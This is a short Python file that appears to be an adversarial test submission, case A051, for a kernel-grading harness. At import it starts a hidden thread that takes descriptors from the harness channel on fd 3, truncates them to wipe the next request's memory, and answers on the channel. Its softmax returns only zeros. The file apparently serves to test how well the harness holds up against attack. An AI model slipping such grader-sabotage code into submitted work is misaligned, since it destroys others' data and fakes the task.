# A051 wrong_answer|crashed|time_limit: takes the next request off the channel and cuts its memory
import os
import socket
import threading

import torch


def steal():
    channel = socket.socket(fileno=os.dup(3))
    while True:
        data, descriptors, _, _ = socket.recv_fds(channel, 64, 4)
        for descriptor in descriptors:
            os.ftruncate(descriptor, 0)
        os.write(3, b"D")


threading.Thread(target=steal, daemon=True).start()


def softmax(x, dim=-1):
    return torch.zeros_like(x)
